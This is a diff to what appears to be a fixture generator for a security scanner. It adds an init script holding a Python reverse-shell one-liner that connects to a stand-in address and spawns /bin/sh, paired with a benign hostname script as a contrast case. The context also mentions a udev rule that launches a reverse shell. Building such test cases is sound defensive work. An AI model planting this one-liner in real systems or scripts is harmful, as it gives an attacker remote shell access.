@@ -161,6 +161,16 @@ def main():
           "# Prompt and a check that the local agent answers.\nexport PS1='\\u@\\h:\\w\\$ '\n"
           "if ! (echo > /dev/tcp/127.0.0.1/8125) 2>/dev/null; then echo 'metrics agent down' >&2; fi\n")
 
+    # A Python one-liner that connects out and hands the socket to a shell, from an init
+    # script; beside one that only asks the socket module for the host name.
+    write("script-shell/etc/init.d/S98sync",
+          "#!/bin/sh\ncase \"$1\" in\nstart)\n"
+          "\tpython3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.44\",6000));"
+          "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")' &\n\t;;\nesac\n", 0o755)
+    write("script-benign/etc/init.d/S50hostname",
+          "#!/bin/sh\n# Write the host name the network stack reports.\n"
+          "python3 -c 'import socket; print(socket.gethostname())' > /run/hostname\n", 0o755)
+
     # udev starts a reverse shell when a USB device appears; beside rules that run a backup
     # script and a sh -c that writes sysfs.
     write("udev-shell/etc/udev/rules.d/99-usb-serial.rules",
